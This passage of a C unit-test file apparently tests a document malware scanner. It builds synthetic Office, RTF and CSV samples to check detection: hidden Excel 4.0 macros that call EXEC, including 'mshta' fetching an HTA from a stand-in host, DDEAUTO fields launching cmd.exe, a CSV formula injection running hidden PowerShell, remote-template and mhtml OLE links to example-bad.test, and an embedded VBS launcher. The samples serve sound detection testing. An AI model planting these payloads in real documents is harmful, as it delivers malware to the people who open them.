	struct entry e[] = {{"VBA/dir", bad_dir, sizeof bad_dir},
	                    {"VBA/Module1", csrc->data, csrc->len}};
	GByteArray *ole = ole_build(e, 2);
	vigil_scan *s = tu_scan(eng, ole->data, ole->len, "vbaProject.bin");
	const vigil_finding *f = finding_at(s, "decode.error", "vbaProject.bin");

	(void)state;
	assert_non_null(strstr(vigil_finding_evidence(f), "VBA dir stream"));
	assert_false(has_finding(s, "macro.present"));
	vigil_scan_free(s);
	g_byte_array_free(ole, TRUE);
	g_byte_array_free(csrc, TRUE);
}

/* hostile VBA streams: mutated dir and module streams never crash the scan */
static void mutated_streams(void **state)
{
	struct module m[] = {{"Module1", autoopen_shell, plain_pcode, sizeof plain_pcode, false}};
	GByteArray *dir = dir_stream(m, 1), *cdir = ovba_compress(dir->data, dir->len);
	GByteArray *csrc = ovba_compress((const uint8_t *)autoopen_shell, strlen(autoopen_shell));
	guint32 r = 0x5eed;

	(void)state;
	for (int it = 0; it < 300; it++) {
		GByteArray *d = g_byte_array_new(), *mod = g_byte_array_new(), *ole;
		GByteArray *t;
		vigil_scan *s;
		int rounds;

		g_byte_array_append(d, cdir->data, cdir->len);
		g_byte_array_append(mod, plain_pcode, sizeof plain_pcode);
		g_byte_array_append(mod, csrc->data, csrc->len);
		r = r * 1103515245u + 12345u;
		rounds = 1 + (int)((r >> 16) % 4);
		for (int k = 0; k < rounds; k++) {
			r = r * 1103515245u + 12345u;
			t = (r >> 8) & 1 ? d : mod;
			r = r * 1103515245u + 12345u;
			switch ((r >> 16) % 5) {
			case 0: /* flip a bit */
				t->data[(r >> 3) % t->len] ^= (uint8_t)(1u << (r % 8));
				break;
			case 1: /* an interesting byte */
				t->data[(r >> 3) % t->len] = (uint8_t[]){
				        0, 0xFF, 0x7F, 0x80, 0xB0, 0x3F, 0x01, 0x10}[r % 8];
				break;
			case 2: /* cut short */
				g_byte_array_set_size(t, 1 + (r >> 3) % t->len);
				break;
			case 3: /* a huge or odd length field somewhere */
				if (t->len > 8) {
					size_t at = (r >> 3) % (t->len - 4);

					t->data[at] = 0xFF;
					t->data[at + 1] = 0xFF;
					t->data[at + 2] = (uint8_t)(r >> 7);
					t->data[at + 3] = 0x7F;
				}
				break;
			default: /* repeat a chunk */
			{
				GByteArray *c = g_byte_array_new();

				g_byte_array_append(c, t->data, t->len / 2);
				g_byte_array_append(t, c->data, c->len);
				g_byte_array_free(c, TRUE);
			} break;
			}
		}
		{
			struct entry e[] = {{"VBA/dir", d->data, d->len},
			                    {"VBA/Module1", mod->data, mod->len}};

			ole = ole_build(e, 2);
		}
		s = tu_scan(eng, ole->data, ole->len, "vbaProject.bin");
		for (size_t i = 0; i < vigil_scan_finding_count(s); i++)
			assert_true(vigil_finding_object(vigil_scan_finding(s, i)) <
			            vigil_scan_object_count(s));
		vigil_scan_free(s);
		g_byte_array_free(ole, TRUE);
		g_byte_array_free(d, TRUE);
		g_byte_array_free(mod, TRUE);
	}
	g_byte_array_free(dir, TRUE);
	g_byte_array_free(cdir, TRUE);
	g_byte_array_free(csrc, TRUE);
}

/* ---- Excel 4.0 macros ---- */

static void biff(GByteArray *g, uint16_t type, const GByteArray *d)
{
	put16(g, type);
	put16(g, (uint16_t)d->len);
	g_byte_array_append(g, d->data, d->len);
}

static void biff_bof(GByteArray *g, uint16_t dt)
{
	GByteArray *d = g_byte_array_new();

	put16(d, 0x0600);
	put16(d, dt);
	put16(d, 0x1F4E);
	put16(d, 0x07CD);
	put32(d, 0x000100C1);
	put32(d, 0x00000006);
	biff(g, 0x0809, d);
	g_byte_array_free(d, TRUE);
}

static void biff_sheet(GByteArray *g, const char *name, uint8_t state, uint8_t dt)
{
	GByteArray *d = g_byte_array_new();

	put32(d, 0); /* lbPlyPos: not needed here */
	put8(d, state);
	put8(d, dt);
	put8(d, (uint8_t)strlen(name));
	put8(d, 0); /* 8-bit characters */
	putstr(d, name);
	biff(g, 0x0085, d);
	g_byte_array_free(d, TRUE);
}

/* NAME: built-in (fBuiltin) one-character name */
static void biff_builtin_name(GByteArray *g, uint8_t which, bool hidden)
{
	GByteArray *d = g_byte_array_new();

	put16(d, (uint16_t)(0x0020 | (hidden ? 1 : 0)));
	put8(d, 0);     /* chKey */
	put8(d, 1);     /* cch */
	put16(d, 7);    /* cce */
	put16(d, 0);    /* reserved */
	put16(d, 0);    /* itab */
	put32(d, 0);    /* reserved */
	put8(d, 0);     /* fHighByte */
	put8(d, which); /* 0x01 Auto_Open */
	/* ptgRef3d to Macro1!A1 */
	put8(d, 0x3A);
	put16(d, 0);
	put16(d, 0);
	put16(d, 0);
	biff(g, 0x0018, d);
	g_byte_array_free(d, TRUE);
}

/* FORMULA at (row, 0) with the parsed expression rgce */
static void biff_formula(GByteArray *g, uint16_t row, const GByteArray *rgce)
{
	GByteArray *d = g_byte_array_new();

	put16(d, row);
	put16(d, 0);
	put16(d, 0x0F);
	put32(d, 0);
	put16(d, 0);
	put16(d, 0xFFFF);
	put16(d, 0);
	put32(d, 0);
	put16(d, (uint16_t)rgce->len);
	g_byte_array_append(d, rgce->data, rgce->len);
	biff(g, 0x0006, d);
	g_byte_array_free(d, TRUE);
}

static GByteArray *workbook_stream(bool macro)
{
	GByteArray *g = g_byte_array_new(), *e = g_byte_array_new(), *f = g_byte_array_new();

	biff_bof(g, 0x0005);
	if (macro)
		biff_sheet(g, "Macro1", 2, 0x01);
	biff_sheet(g, "Sheet1", 0, 0x00);
	if (macro)
		biff_builtin_name(g, 0x01, true);
	else
		biff_builtin_name(g, 0x06, false); /* Print_Area */
	biff(g, 0x000A, e);
	if (macro) {
		biff_bof(g, 0x0040);
		/* =EXEC("calc.exe"): ptgStr, ptgFuncVar(1 argument, Ftab 110) */
		put8(f, 0x17);
		put8(f, 8);
		put8(f, 0);
		putstr(f, "calc.exe");
		put8(f, 0x42);
		put8(f, 1);
		put16(f, 110);
		biff_formula(g, 0, f);
		g_byte_array_set_size(f, 0);
		put8(f, 0x42); /* =HALT() */
		put8(f, 0);
		put16(f, 54);
		biff_formula(g, 1, f);
		biff(g, 0x000A, e);
	}
	biff_bof(g, 0x0010);
	g_byte_array_set_size(f, 0);
	put8(f, 0x1E); /* =1+2 */
	put16(f, 1);
	put8(f, 0x1E);
	put16(f, 2);
	put8(f, 0x03);
	biff_formula(g, 0, f);
	biff(g, 0x000A, e);
	g_byte_array_free(e, TRUE);
	g_byte_array_free(f, TRUE);
	return g;
}

static void xlm_biff8(void **state)
{
	GByteArray *wb = workbook_stream(true);
	struct entry e[] = {{"Workbook", wb->data, wb->len}};
	GByteArray *xls = ole_build(e, 1);
	vigil_scan *s = scan_doc(xls, "so-lieu.xls");
	const vigil_finding *f;

	(void)state;
	f = finding_at(s, "xlm.macro_sheet", "so-lieu.xls/Workbook");
	assert_string_equal(vigil_finding_attack(f), "T1564");
	assert_non_null(strstr(vigil_finding_evidence(f), "\"Macro1\" (very hidden)"));
	f = finding_at(s, "xlm.autoopen", "so-lieu.xls/Workbook");
	assert_string_equal(vigil_finding_attack(f), "T1204.002");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_HIGH);
	assert_non_null(strstr(vigil_finding_evidence(f), "Auto_Open (hidden)"));
	f = finding_at(s, "xlm.exec", "so-lieu.xls/Workbook");
	assert_string_equal(vigil_finding_attack(f), "T1059");
	assert_non_null(strstr(vigil_finding_evidence(f), "EXEC()"));
	vigil_scan_free(s);
	g_byte_array_free(xls, TRUE);
	g_byte_array_free(wb, TRUE);
}

static void benign_workbook(void **state)
{
	GByteArray *wb = workbook_stream(false);
	struct entry e[] = {{"Workbook", wb->data, wb->len}};
	GByteArray *xls = ole_build(e, 1);
	vigil_scan *s = tu_scan(eng, xls->data, xls->len, "bang-luong.xls");

	(void)state;
	assert_false(has_finding(s, "xlm.*"));
	assert_false(has_finding(s, "macro.*"));
	assert_int_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_byte_array_free(xls, TRUE);
	g_byte_array_free(wb, TRUE);
}

static void xlm_ooxml(void **state)
{
	static const char wb[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	        "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
	        "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
	        "<sheets><sheet name=\"Macro1\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId1\"/>"
	        "<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId2\"/></sheets>"
	        "<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1"
	        "</definedName></definedNames></workbook>";
	static const char ms[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	        "<xm:macrosheet "
	        "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
	        "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
	        "<row r=\"1\"><c r=\"A1\"><f>EXEC(\"mshta "
	        "http://x.example.test/a.hta\")</f></c></row>"
	        "<row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";
	struct member m[] = {
	        {"[Content_Types].xml", content_types, strlen(content_types)},
	        {"xl/workbook.xml", wb, strlen(wb)},
	        {"xl/macrosheets/sheet1.xml", ms, strlen(ms)},
	};
	GByteArray *z = zip_build(m, G_N_ELEMENTS(m));
	vigil_scan *s = scan_doc(z, "bao-cao.xlsm");

	(void)state;
	finding_at(s, "xlm.autoopen", "bao-cao.xlsm/xl/workbook.xml");
	finding_at(s, "xlm.macro_sheet", "bao-cao.xlsm/xl/macrosheets/sheet1.xml");
	finding_at(s, "xlm.exec", "bao-cao.xlsm/xl/macrosheets/sheet1.xml");
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
}

/* ---- DDE ---- */

static GByteArray *docx_with(const char *document, const char *rels_name, const char *rels)
{
	struct member m[] = {
	        {"[Content_Types].xml", content_types, strlen(content_types)},
	        {"word/document.xml", document, strlen(document)},
	        {rels_name, rels, rels != NULL ? strlen(rels) : 0},
	};

	return zip_build(m, rels != NULL ? 3 : 2);
}

static void dde_split_field(void **state)
{
	static const char doc[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<w:document "
	        "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
	        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	        "<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
	        "<w:r><w:rPr><w:b/></w:rPr><w:instrText>E</w:instrText></w:r>"
	        "<w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/k "
	        "calc.exe&quot;</w:instrText></w:r>"
	        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>!Loi</w:t></w:r>"
	        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";
	GByteArray *z = docx_with(doc, NULL, NULL);
	vigil_scan *s = scan_doc(z, "cong-van.docx");
	const vigil_finding *f = finding_at(s, "dde.field", "cong-van.docx/word/document.xml");

	(void)state;
	assert_string_equal(vigil_finding_attack(f), "T1559.002");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_HIGH);
	assert_non_null(strstr(vigil_finding_evidence(f), "DDEAUTO c:\\\\Windows"));
	assert_non_null(strstr(vigil_finding_evidence(f), "\"/k calc.exe\""));
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
}

static void benign_fields(void **state)
{
	static const char doc[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<w:document "
	        "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
	        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	        "<w:r><w:instrText> PAGE </w:instrText></w:r>"
	        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
	        "<w:fldSimple w:instr=\" HYPERLINK &quot;https://baohiemxahoi.gov.vn/&quot; \">"
	        "<w:r><w:t>BHXH</w:t></w:r></w:fldSimple>"
	        "<w:r><w:t>DDE is mentioned here in text only.</w:t></w:r></w:p></w:body>"
	        "</w:document>";
	static const char rels[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Relationships "
	        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	        "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
	        "2006/relationships/hyperlink\" Target=\"https://baohiemxahoi.gov.vn/\" "
	        "TargetMode=\"External\"/></Relationships>";
	GByteArray *z = docx_with(doc, "word/_rels/document.xml.rels", rels);
	vigil_scan *s = tu_scan(eng, z->data, z->len, "thong-bao.docx");
	const vigil_finding *f;

	(void)state;
	assert_false(has_finding(s, "dde.field"));
	f = finding_at(s, "office.hyperlink", "thong-bao.docx/word/_rels/document.xml.rels");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_INFO);
	assert_true(worst(s) <= VIGIL_SEV_LOW);
	assert_int_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
}

static void dde_csv_and_rtf(void **state)
{
	static const char csv[] = "ma,ten,so tien\r\n1,Nguyen Van A,100\r\n"
	                          "=cmd|' /C powershell -w hidden calc'!A0,x,y\r\n";
	static const char rtf[] = "{\\rtf1\\ansi{\\field{\\*\\fldinst {\\rtlch\\fcs1 \\af0 DDE}"
	                          "{AUTO \"C:\\\\\\\\Programs\\\\\\\\cmd.exe\" \"/c calc\"}}"
	                          "{\\fldrslt }}}";
	static const char body[] =
	        "Subject: DDE\r\nFrom: a@b.vn\r\nTo: c@d.vn\r\n\r\n"
	        "Security bulletin: attackers type =cmd|'/c calc'!A0 in CSV.\r\n";
	vigil_scan *s = tu_scan(eng, csv, strlen(csv), "danh-sach.csv");
	const vigil_finding *f = finding_at(s, "dde.field", "danh-sach.csv");

	(void)state;
	assert_non_null(strstr(vigil_finding_evidence(f), "cmd|' /C powershell"));
	vigil_scan_free(s);
	s = tu_scan(eng, rtf, strlen(rtf), "thu-moi.rtf");
	f = finding_at(s, "dde.field", "thu-moi.rtf");
	assert_non_null(strstr(vigil_finding_evidence(f), "DDEAUTO"));
	vigil_scan_free(s);
	/* a message body discussing the technique is not a DDE formula */
	s = tu_scan(eng, body, strlen(body), NULL);
	assert_false(has_finding(s, "dde.field"));
	vigil_scan_free(s);
}

/* ---- external relationships ---- */

static void remote_template(void **state)
{
	static const char rels[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Relationships "
	        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
	        "2006/relationships/attachedTemplate\" "
	        "Target=\"http://tpl.example-bad.test/mau/Normal.dotm?a=1&amp;b=2\" "
	        "TargetMode=\"External\"/></Relationships>";
	static const char local[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Relationships "
	        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
	        "2006/relationships/attachedTemplate\" "
	        "Target=\"file:///C:\\Users\\ketoan\\AppData\\Roaming\\Microsoft\\Templates\\"
	        "Normal.dotm\" TargetMode=\"External\"/></Relationships>";
	static const char flat[] =
	        "<?xml version=\"1.0\"?>\n<?mso-application progid=\"Word.Document\"?>\n"
	        "<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">"
	        "<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\"><pkg:xmlData><Relationships "
	        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
	        "2006/relationships/attachedTemplate\" "
	        "Target=\"\\\\tpl.example-bad.test\\share\\t.dotm\" TargetMode=\"External\"/>"
	        "</Relationships></pkg:xmlData></pkg:part></pkg:package>";
	static const char rtf[] = "{\\rtf1\\ansi{\\*\\template http://tpl.example-bad.test/r.dot}"
	                          "Hello}";
	GByteArray *z = docx_with(plain_document, "word/_rels/settings.xml.rels", rels);
	vigil_scan *s = tu_scan(eng, z->data, z->len, "mau.docx");
	const vigil_finding *f =
	        finding_at(s, "office.remote_template", "mau.docx/word/_rels/settings.xml.rels");

	(void)state;
	assert_string_equal(vigil_finding_attack(f), "T1221");
	assert_int_equal(vigil_finding_severity(f), VIGIL_SEV_HIGH);
	assert_non_null(strstr(vigil_finding_evidence(f),
	                       "http://tpl.example-bad.test/mau/Normal.dotm?a=1&b=2"));
	assert_true(
	        has_fact(s, VIGIL_FACT_URL, "http://tpl.example-bad.test/mau/Normal.dotm?a=1&b=2"));
	assert_true(has_fact(s, VIGIL_FACT_DOMAIN, "tpl.example-bad.test"));
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);

	/* the usual local template: nothing */
	z = docx_with(plain_document, "word/_rels/settings.xml.rels", local);
	s = tu_scan(eng, z->data, z->len, "mau.docx");
	assert_false(has_finding(s, "office.*"));
	assert_int_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);

	/* Word 2007 flat XML, template on a share */
	s = tu_scan(eng, flat, strlen(flat), "mau.xml");
	f = finding_at(s, "office.remote_template", "mau.xml");
	assert_non_null(strstr(vigil_finding_evidence(f), "\\\\tpl.example-bad.test\\share"));
	vigil_scan_free(s);

	s = tu_scan(eng, rtf, strlen(rtf), "mau.rtf");
	f = finding_at(s, "office.remote_template", "mau.rtf");
	assert_non_null(strstr(vigil_finding_evidence(f), "http://tpl.example-bad.test/r.dot"));
	vigil_scan_free(s);
}

static void external_ole_object(void **state)
{
	static const char rels[] =
	        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Relationships "
	        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	        "<Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
	        "2006/relationships/oleObject\" Target=\"mhtml:http://x.example-bad.test/a.html!"
	        "x-usc:http://x.example-bad.test/a.html\" TargetMode=\"External\"/>"
	        "<Relationship Id=\"rId6\" Type=\"http://schemas.openxmlformats.org/officeDocument/"
	        "2006/relationships/image\" Target=\"media/image1.png\"/></Relationships>";
	GByteArray *z = docx_with(plain_document, "word/_rels/document.xml.rels", rels);
	vigil_scan *s = tu_scan(eng, z->data, z->len, "hop-dong.docx");
	const vigil_finding *f = finding_at(s, "office.external_object",
	                                    "hop-dong.docx/word/_rels/document.xml.rels");

	(void)state;
	assert_string_equal(vigil_finding_attack(f), "T1221");
	assert_non_null(
	        strstr(vigil_finding_evidence(f), "oleObject mhtml:http://x.example-bad.test"));
	assert_true(has_fact(s, VIGIL_FACT_DOMAIN, "x.example-bad.test"));
	vigil_scan_free(s);
	g_byte_array_free(z, TRUE);
}

/* ---- OLE packages ---- */

static GByteArray *package(const char *name, const void *d, uint32_t n)
{
	GByteArray *b = g_byte_array_new(), *out = g_byte_array_new();
	char *tmp = g_strdup_printf("C:\\Users\\a\\AppData\\Local\\Temp\\%s", name);

	put16(b, 2);
	g_byte_array_append(b, (const uint8_t *)name, (guint)strlen(name) + 1);
	g_byte_array_append(b, (const uint8_t *)tmp, (guint)strlen(tmp) + 1);
	put16(b, 0);
	put16(b, 3);
	put32(b, (uint32_t)strlen(tmp) + 1);
	g_byte_array_append(b, (const uint8_t *)tmp, (guint)strlen(tmp) + 1);
	put32(b, n);
	g_byte_array_append(b, d, n);
	put32(out, b->len);
	g_byte_array_append(out, b->data, b->len);
	g_byte_array_free(b, TRUE);
	g_free(tmp);
	return out;
}

static void embedded_program(void **state)
{
	static const char vbs[] = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n";
	static const char txt[] = "Danh sach can bo\r\n";
	GByteArray *p1 = package("huong-dan.vbs", vbs, sizeof vbs - 1);
	GByteArray *p2 = package("ghi-chu.txt", txt, sizeof txt - 1);
	uint8_t word[512] = {0xEC, 0xA5, 0xC1, 0x00};
	struct entry e[] = {{"WordDocument", word, sizeof word},
	                    {"ObjectPool/_1/\001Ole10Native", p1->data, p1->len},
	                    {"ObjectPool/_2/\001Ole10Native", p2->data, p2->len}};
	GByteArray *doc = ole_build(e, G_N_ELEMENTS(e));
	vigil_scan *s = scan_doc(doc, "huong-dan.doc");
	const vigil_finding *f = finding_at(s, "office.embedded_executable",
	                                    "huong-dan.doc/ObjectPool/_1/\\x01Ole10Native");

	(void)state;
	assert_string_equal(vigil_finding_attack(f), "T1204.002");
	assert_non_null(strstr(vigil_finding_evidence(f), "huong-dan.vbs"));
	/* the text file in the second package is no program */
	for (size_t i = 0; i < vigil_scan_finding_count(s); i++)
		if (strcmp(vigil_finding_id(vigil_scan_finding(s, i)),
		           "office.embedded_executable") == 0)
			assert_null(strstr(tu_finding_path(s, (long)i), "_2"));
	vigil_scan_free(s);
	g_byte_array_free(doc, TRUE);
	g_byte_array_free(p1, TRUE);
	g_byte_array_free(p2, TRUE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(docm_autoopen_shell),
	        cmocka_unit_test(doc_obfuscated_chr_chain),
	        cmocka_unit_test(xls_downloader),
	        cmocka_unit_test(stomped_module),
	        cmocka_unit_test(stomped_by_damaged_source),
	        cmocka_unit_test(long_module_roundtrip),
	        cmocka_unit_test(benign_formatting_macro),
	        cmocka_unit_test(declare_alias_is_execute),
	        cmocka_unit_test(damaged_dir),
	        cmocka_unit_test(mutated_streams),
	        cmocka_unit_test(xlm_biff8),
	        cmocka_unit_test(benign_workbook),
	        cmocka_unit_test(xlm_ooxml),
	        cmocka_unit_test(dde_split_field),
	        cmocka_unit_test(benign_fields),
	        cmocka_unit_test(dde_csv_and_rtf),
	        cmocka_unit_test(remote_template),
	        cmocka_unit_test(external_ole_object),
	        cmocka_unit_test(embedded_program),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
